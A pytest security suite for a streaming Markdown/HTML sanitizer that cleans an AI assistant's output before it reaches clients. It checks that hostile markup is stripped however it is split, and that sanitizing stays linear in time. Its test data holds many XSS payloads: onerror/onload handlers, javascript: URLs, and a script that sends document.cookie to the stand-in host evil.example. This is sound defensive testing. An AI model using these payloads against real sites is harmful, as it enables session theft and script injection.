"""Hostile markup against the sanitizer: nothing a browser or a Markdown renderer would turn into
markup reaches a consumer, however the markup is cased, quoted, nested, left open or split over
chunks; and no shape of input makes sanitizing cost more than linear time.

Safety is judged by ``tests/security/markup_oracle.py``: the output is rendered as CommonMark with
raw HTML enabled (what a consumer's client does) and the resulting HTML is inspected, so the check
shares nothing with the sanitizer's own reading of the text."""

from __future__ import annotations

import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from routing import sanitize
from routing.sanitize import ChunkSanitizer, TagStripper, strip_tags
from tests.security.markup_oracle import offences


def stream(pieces: list[str]) -> str:
    stripper = TagStripper()
    return "".join(stripper.feed(piece) for piece in pieces) + stripper.flush()


HOSTILE = {
    "script": "Hi <script>fetch('//evil.example/?c='+document.cookie)</script> there",
    "script uppercase": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script self-closed": "<script/src=//evil.example/x.js>",
    "img onerror": "<img src=x onerror=alert(1)>",
    "img onerror uppercase": "<IMG SRC=x ONERROR=alert(1)>",
    "quoted gt": '<img alt=">" onerror=alert(1)>',
    "single quoted gt": "<img alt='>' onerror=alert(1)>",
    "iframe": '<iframe src="javascript:alert(1)"></iframe>',
    "svg onload": "<svg onload=alert(1)><circle r=1 /></svg>",
    "svg script": "<svg><script>alert(1)</script></svg>",
    "math href": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "event handler on unknown element": "<x-card onmouseover=alert(1) style=display:block>",
    "style overlay": '<div style="position:fixed;inset:0">login here</div>',
    "unclosed img": "<img src=x onerror=alert(1) ",
    "unclosed quote": '<img alt="x onerror=alert(1)>',
    "nested": "<<b>script>alert(1)<</b>/script>",
    "joined by removal": "<scr<b>ipt>alert(1)</scr<i>ipt>",
    "comment": "<!-- <script>alert(1)</script> -->shown",
    "unclosed comment": "shown<!-- <img src=x onerror=alert(1)>",
    "cdata": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "doctype and pi": "<!DOCTYPE html><?php system('id'); ?>",
    "tag across lines": "<img\nsrc=x\nonerror=alert(1)>",
    "span opened to smuggle": "look: `<img src=x onerror=alert(1)> no closing backtick",
    "span across lines": "`a\n<img src=x onerror=alert(1)>`",
    "escaped backtick": "\\`<img src=x onerror=alert(1)>`",
    "table cell split": "| `x|<img src=x onerror=alert(1)>` |\n|---|",
    "indented fence": "    ```\n<img src=x onerror=alert(1)>\n    ```",
    "fence in quote": "> ```\n<img src=x onerror=alert(1)>\n```",
    "html block then code": "<T>\n`<img src=x onerror=alert(1)>`",
    "html block then fence": "<T>\n```\n<img src=x onerror=alert(1)>\n```",
    "fence in list dedented": "- ```\n<img src=x onerror=alert(1)>\n  ```",
    "crlf": "<img\r\nsrc=x onerror=alert(1)>\r\n```\r\n<b>code</b>\r\n```\r\n<i>x</i>",
    "lone cr": "```\r<b>code</b>\r```\r<img src=x onerror=alert(1)>",
    "backticks joined by removal": "``<b>`\n<img src=x onerror=alert(1)>\n```",
    "tildes joined by removal": "~~<b>~\n<img src=x onerror=alert(1)>\n~~~",
    "markup inside a tag left open at the end": "x <u a='</script>on<style>y",
    "markup inside a kept tag": "<x-y<U a='\r&lt;<U a='</script>on<style><!</script>",
    # Red-team round 2, F2: a cut inside the indentation of a line in a fence.
    "fence line cut in its indentation": "- ~~~\n \n <img src=x onerror=alert(1)>",
    # F3: a tab after the list item's indentation makes the line a closing fence.
    "tab before a closing fence": "- ```\n  a\n  \t```\n  <img src=x onerror=alert(1)>\n",
    # Red-team round 3, F7: "</" and no letter is a bogus comment in a raw HTML block.
    # F5c: one backslash before a "|" keeps a code span whole in a table; two may not.
    "pipe after two backslashes in a table": "| `a\\\\|<img src=x onerror=alert(1)>` |\n|---|",
    "end tag without a name in an html block": "<T>\n</ x>hidden</T>\n</1>more\n</",
}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_markup_never_reaches_a_consumer_whole_or_split_anywhere(name):
    text = HOSTILE[name]
    whole = strip_tags(text)
    assert offences(whole) == []
    for cut in range(1, len(text)):
        assert stream([text[:cut], text[cut:]]) == whole, cut
    assert stream(list(text)) == whole


def test_an_end_tag_without_a_name_in_a_raw_html_block_hides_no_text():
    # Red-team round 3, F7: in a raw HTML block the browser's tokenizer reads "</ x>" as a bogus
    # comment, and the text in it disappears; in a paragraph a renderer shows it as text.
    text = "<T>\n</ x>hidden\nx </\n"
    for pieces in ([text], list(text)):
        out = stream(pieces)
        assert out == "<T>\n/ x>hidden\nx /\n"
        assert offences(out) == []
    assert strip_tags("a </ x> b") == "a </ x> b"


def test_the_oracle_sees_what_the_old_sanitizer_let_through():
    # The checker is worth something only if it flags real markup.
    assert offences("<T>\n`<img src=x onerror=alert(1)>`")
    assert offences("<x-y onmouseover=alert(1)>hi")
    assert offences("a <b>bold</b>")
    assert not offences("a `<b>` and\n```\n<script>\n```\nList<String>")
    # ... and both presets render honest Markdown without complaint (gfm-like: links made from
    # bare URLs, strikethrough, tables).
    assert not offences("~~old~~ see www.example.com or https://example.com/a?b=1\n\n"
                        "| a | b |\n|:-|-:|\n| `x` | ~~y~~ |\n")


# --- Properties ----------------------------------------------------------------------------------

FRAGMENTS = [
    "<", ">", "/", "`", "``", "```", "~~~", "\n", "\r\n", "\r", " ", "   ", "    ", "\t", "- ",
    "1. ", "2. ", "> ", "|", "\\", "=", '"', "'", "!", "?", "-", "#", "*", "a", "x", "on", "b",
    "script", "style", "img", "div", "svg", "<b>", "</b>", "<i", "<p", "<script>", "</script>",
    "<style>", "<img src=x onerror=alert(1)>", "<a href=", "<T>", "<T onmouseover=1>", "<U a='",
    "<x-y", "<!--", "-->", "<?", "<!", "<![CDATA[", "]]>", "onerror=alert(1)", "&lt;", "\n\n",
    "~~", "www.a.co", "http://a.co/", "a@b.co", "](", "[x", ")",
    # Closed tags and autolinks, after which backticks pair again (red-team 3, F5b).
    "<https://a.co>", "<a@b.co>", "<T a='>'>", "<T a=`>", "</T >", "\u2003", "\u00a0", "\\|",
]
hostile_text = st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=40).map("".join)
some_text = st.one_of(hostile_text, st.text(alphabet="<>/`~\n\r -1.|\\ab=\"'!?", max_size=60))
FAST = settings(max_examples=400, deadline=None,
                suppress_health_check=[HealthCheck.too_slow])


def pieces_of(text: str, cuts: list[int]) -> list[str]:
    cuts = sorted({min(cut, len(text)) for cut in cuts})
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


@FAST
@given(some_text)
def test_no_element_tag_reaches_a_consumer_outside_code(text):
    assert offences(strip_tags(text)) == []


@FAST
@given(some_text, st.lists(st.integers(min_value=0, max_value=60), max_size=6))
def test_chunking_never_changes_the_result(text, cuts):
    assert stream(pieces_of(text, cuts)) == strip_tags(text)


@FAST
@given(st.text(max_size=80).filter(lambda t: "<" not in t),
       st.lists(st.integers(min_value=0, max_value=80), max_size=5))
def test_text_without_a_lt_is_never_changed(text, cuts):
    assert stream(pieces_of(text, cuts)) == text


# --- Cost ----------------------------------------------------------------------------------------

K = 100_000
WORST_SHAPES = {
    "lt a gt b (the issue's chunk)": "<" * 30000 + "a" + ">b" * 30000,
    "lt run": "<" * K,
    "lt gt alternating": "<>" * (K // 2),
    "nested open tags": "<b" * (K // 2),
    "unclosed element tags": "<a " * (K // 3),
    "complete tags": "<a>" * (K // 3),
    "non-element tags": "<T>" * (K // 3),
    "non-element unclosed": ("<T a='" + "y" * 20) * (K // 26),
    "quoted gt": ('<T a=">" ' * 10 + "\n") * (K // 101),
    "tags on lines": "<T\n" * (K // 3),
    "scripts": "<script></script>" * (K // 17),
    "comments": "<!---->" * (K // 7),
    "end tag starts": "</" * (K // 2),
    "backticks and lines": "`a`\n" * (K // 4),
    "fences opening and closing": "```\n```\n" * (K // 8),
    "mixed": ("<b>x</b> `<i>` a<b c>d\n```\n<div>\n```\n" * 3000)[:K],
    # Safe-looking tags, each with an event handler in or right after it (red-team 2, F1).
    "non-element tags with a handler": ("<T on=1>" * (K // 8 + 1))[:K],
    "handler after a tag": ("<T> on=" * (K // 7 + 1))[:K],
    "handler after a tag and a tab": ("<T>\ton=" * (K // 7 + 1))[:K],
    # Red-team round 3: "<?" and "<!" held until a ">", a blank line or MAX_TAG_CHARS.
    "unclosed processing instructions": "<?" * (K // 2),
    "unclosed declarations over lines": "<!x \n" * (K // 5),
    "unclosed declarations over blank lines": "<!x\n \n" * (K // 7),
}


def cost_per_10kb(text: str, piece: int) -> float:
    """Best of three: milliseconds of sanitizing per 10 KB, fed in pieces of ``piece``."""
    best = float("inf")
    for _ in range(3):
        stripper = TagStripper()
        start = time.perf_counter()
        for at in range(0, len(text), piece):
            stripper.feed(text[at : at + piece])
        stripper.flush()
        best = min(best, time.perf_counter() - start)
    return best * 1000 / (len(text) / 10_000)


@pytest.fixture
def unguarded(monkeypatch):
    """The sanitizer's own cost, without the CPU-time allowance that would stop it."""
    monkeypatch.setattr(sanitize, "MAX_SAVED_SECONDS", 1e9)
    monkeypatch.setattr(sanitize, "SECONDS_PER_PIECE", 1e9)


@pytest.mark.parametrize("name", list(WORST_SHAPES))
def test_sanitizing_is_linear_in_the_input_for_the_worst_shapes(name, unguarded):
    text = WORST_SHAPES[name]
    small = text[: len(text) // 10]
    for piece in (len(text), 1000):
        full = cost_per_10kb(text, piece)
        # Ten times the text costs about ten times as much (the old sanitizer: a hundred times),
        # and the cost stays far from the old 2.7 s per 10 KB (measured: 0.3-28 ms per 10 KB).
        assert full < 3 * cost_per_10kb(small, min(piece, len(small))) + 1
        assert full < 100


def test_the_issues_chunk_is_cheap_without_any_allowance_running_out():
    text = WORST_SHAPES["lt a gt b (the issue's chunk)"]
    stripper = TagStripper()
    start = time.thread_time()
    out = stripper.feed(text)
    spent = time.thread_time() - start
    assert spent < 0.01  # measured 4 ms (it took 24 s before)
    assert out.endswith("b>b") and stripper._mode != sanitize._PANIC  # the full rule applied


@pytest.mark.parametrize("name", list(WORST_SHAPES))
def test_no_piece_holds_the_loop_longer_than_its_allowance(name):
    text = WORST_SHAPES[name]
    allowance = sanitize.MAX_SAVED_SECONDS + sanitize.SECONDS_PER_PIECE
    for piece in (len(text), 1000):
        stripper = TagStripper()
        out = []
        for at in range(0, len(text), piece):
            start = time.thread_time()
            out.append(stripper.feed(text[at : at + piece]))
            spent = time.thread_time() - start
            # CPU time, so a loaded machine does not count against it; 3 ms of slack for the
            # last step before the allowance was checked.
            assert spent < allowance + piece * sanitize.SECONDS_PER_CHAR + 0.003
        out.append(stripper.flush())
        assert offences("".join(out)) == []  # also once the allowance ran out


@pytest.mark.parametrize("shape", ["<T on=1>", "<T> on=", "<T>\ton="])
def test_a_frame_of_costly_1kb_chunks_gets_no_more_cpu_than_its_allowance(shape):
    # Red-team 2, F1: one inference_chunks frame of 92 chunks of 1,000 characters took 160-260 ms
    # of the event loop (the allowance was checked before every 4th step only, and each "<" in a
    # step rescanned 4 KB). The relay cleans a frame's chunks in one go, so their CPU time is
    # what the event loop loses.
    body = (shape * 200)[:1000]
    chunk = {"message": {"role": "assistant", "content": body}, "done": False}
    count = 92
    allowance = (count * (len(body) * sanitize.SECONDS_PER_CHAR + sanitize.SECONDS_PER_PIECE)
                 + sanitize.MAX_SAVED_SECONDS)  # 16.8 ms: 1 ms per 10 KB, 50 us per chunk, 3 ms
    best = float("inf")
    for _ in range(3):
        sanitizer = ChunkSanitizer()
        start = time.thread_time()
        shown = [sanitizer.clean(chunk) for _ in range(count)]
        best = min(best, time.thread_time() - start)
        shown.append(sanitizer.clean({"message": {"role": "assistant", "content": ""},
                                      "done": True}))
        text = "".join(c["message"].get("content", "") for c in shown if c is not None)
        assert offences(text) == []
    tens_of_kb = count * len(body) / 10_000
    per_10kb = best * 1000 / tens_of_kb
    allowed_per_10kb = allowance * 1000 / tens_of_kb  # 1.8 ms
    # CPU time (a loaded machine does not count against it), best of three; 1.6 ms per 10 KB of
    # slack (15 ms in all). Measured 5 ms in all after the fix, 160-260 ms before.
    assert per_10kb < allowed_per_10kb + 1.6, f"{best * 1000:.1f} ms, {per_10kb:.2f} ms per 10 KB"


# Red-team round 2, F4: a backtick that a renderer reads as part of a link, an autolink or an
# address, not as the start of a code span. What follows it is prose, and its markup goes.
SWALLOWED_BACKTICKS = {
    "link destination": "[x](`) <img src=x onerror=alert(1)> `",
    "link title": '[x](u "`") <img src=x onerror=alert(1)> `',
    "image destination": "![x](`) <img src=x onerror=alert(1)> `",
    "angle destination": "[x](<`>) <img src=x onerror=alert(1)> `",
    "email autolink": "<`@a.co> <img src=x onerror=alert(1)> `",
    "email autolink after a digit": "<1`@a.co> <img src=x onerror=alert(1)> `",
    "url autolink": "http://a.co/` <img src=x onerror=alert(1)> `",
    "www autolink": "www.a.co/` <img src=x onerror=alert(1)> `",
}


@pytest.mark.parametrize("name", list(SWALLOWED_BACKTICKS))
def test_a_backtick_a_renderer_reads_as_part_of_a_link_opens_no_code(name):
    text = SWALLOWED_BACKTICKS[name]
    whole = strip_tags(text)
    assert "<img" not in whole
    assert offences(whole) == []
    for cut in range(1, len(text)):
        assert stream([text[:cut], text[cut:]]) == whole, cut
